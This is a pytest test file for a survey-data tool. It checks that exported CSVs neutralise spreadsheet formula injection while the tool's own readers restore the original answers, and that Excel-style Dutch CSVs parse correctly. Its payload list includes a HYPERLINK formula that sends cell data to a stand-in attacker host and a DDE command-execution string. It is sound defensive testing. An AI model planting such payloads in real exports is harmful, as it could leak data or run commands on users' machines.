"""Formula injection: an answer a spreadsheet would run is neutralised in every CSV we write,
and our own readers give the answer back unchanged (barometer.csvsafe).

The commands run as subprocesses in an empty folder, on the demo wave with open answers,
an organisation id and a wave label replaced by formulas.
"""

from __future__ import annotations

import csv
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

from barometer.csvsafe import TRIGGERS

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\uff1d4+4",  # full-width =
    "\t=1+1",
]
EVIL_ORG = "@SUM(9+9)"
EVIL_WAVE = "=1+1"


def barometer(cwd: Path, *args: str) -> subprocess.CompletedProcess[str]:
    exe = shutil.which("barometer", path=str(Path(sys.executable).parent))
    assert exe, "the barometer command is not installed next to this Python"
    env = {k: v for k, v in os.environ.items() if k != "DJANGO_SETTINGS_MODULE"}
    result = subprocess.run(
        [exe, *args], cwd=cwd, env=env, capture_output=True, text=True, timeout=600
    )
    assert result.returncode == 0, (args, result.stdout[-3000:], result.stderr[-3000:])
    return result


def cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def column(path: Path, name: str) -> list[str]:
    rows = cells(path)
    pos = rows[0].index(name)
    return [r[pos] for r in rows[1:]]


def is_plain_number(text: str) -> bool:
    try:
        float(text.replace(",", "."))
    except ValueError:
        return False
    return True


def unsafe_cells(path: Path) -> list[str]:
    """Cells a spreadsheet would evaluate: starting with a trigger and not a plain number."""
    return [
        cell
        for row in cells(path)
        for cell in row
        if cell and cell[0] in TRIGGERS and not is_plain_number(cell)
    ]


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An empty folder with the demo wave and ``injected.csv``: the demo's responses with
    formulas as open answers, one organisation id and the wave label."""
    here = tmp_path_factory.mktemp("injection")
    barometer(here, "demo", "--out", "demo", "--quiet")
    data = pd.read_csv(here / "demo" / "responses.csv", dtype=str, keep_default_na=False)
    innovators = data.index[data["d1_description"] != ""][: len(PAYLOADS)]
    data.loc[innovators, "d1_description"] = PAYLOADS
    asked = data.index[data["f2_feedback_report"] == "1"][0]
    data.loc[asked, "org_id"] = EVIL_ORG
    data["wave"] = EVIL_WAVE
    with (here / "injected.csv").open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)  # as another tool would write it: formulas as they are
        writer.writerow(data.columns)
        writer.writerows(data.itertuples(index=False))
    return here


def test_convert_neutralises_and_our_reader_restores(folder: Path) -> None:
    barometer(folder, "convert", "injected.csv", "safe.csv")
    written = [c for c in column(folder / "safe.csv", "d1_description") if c.lstrip("'")[:1]]
    for payload in PAYLOADS:
        assert "'" + payload in written, payload
    assert "'" + EVIL_ORG in column(folder / "safe.csv", "org_id")
    assert set(column(folder / "safe.csv", "wave")) == {"'" + EVIL_WAVE}
    assert "-1" in column(folder / "safe.csv", "d3_origin")  # numbers stay numbers
    assert unsafe_cells(folder / "safe.csv") == []
    # round trip: reading our CSV back gives the answers as they were
    barometer(folder, "convert", "safe.csv", "back.parquet")
    back = pd.read_parquet(folder / "back.parquet")
    assert set(PAYLOADS) <= set(back["d1_description"])
    assert EVIL_ORG in set(back["org_id"]) and set(back["wave"]) == {EVIL_WAVE}
    original = pd.read_parquet(folder / "demo" / "responses.parquet")
    assert back["d3_origin"].tolist() == original["d3_origin"].tolist()
    # the raw text, for the analysts' own tools
    barometer(folder, "convert", "injected.csv", "raw.csv", "--raw-csv")
    assert set(PAYLOADS) <= set(column(folder / "raw.csv", "d1_description"))


def test_report_feedback_compare_and_codebook_write_no_formula(folder: Path) -> None:
    barometer(folder, "report", "injected.csv", "--out", "report")
    barometer(folder, "feedback", "injected.csv", "--out", "feedback")
    barometer(folder, "compare", "injected.csv", "demo/responses.csv", "--out", "compare")
    assert "'" + EVIL_ORG in column(folder / "feedback" / "index.csv", "org_id")
    assert "'-1 -8 -9" in column(folder / "demo" / "codebook.csv", "missing")
    compare_cells = {c for p in (folder / "compare").rglob("*.csv") for r in cells(p) for c in r}
    assert any(EVIL_WAVE in c for c in compare_cells), "the wave label is not in the tables"
    written = [
        p
        for p in folder.rglob("*.csv")
        if p.name not in ("injected.csv", "raw.csv") and not p.name.startswith(".")
    ]
    assert len(written) > 20
    assert {p: unsafe_cells(p) for p in written if unsafe_cells(p)} == {}


def test_dataset_csv_as_dutch_excel_saves_it(folder: Path) -> None:
    """Semicolons, Windows-1252 and CRLF: read as the same dataset (no "missing column")."""
    data = pd.read_csv(folder / "demo" / "responses.csv", dtype=str, keep_default_na=False)
    data.loc[0, "d1_description"] = "Één loket voor de burger, café-overleg"
    data.to_csv(
        folder / "excel.csv", sep=";", index=False, encoding="cp1252", lineterminator="\r\n"
    )
    assert b";" in (folder / "excel.csv").read_bytes()[:200]
    result = barometer(folder, "validate", "excel.csv")
    assert "366 valid responses" in result.stdout
    barometer(folder, "convert", "excel.csv", "excel.parquet")
    back = pd.read_parquet(folder / "excel.parquet")
    assert back.loc[0, "d1_description"] == "Één loket voor de burger, café-overleg"
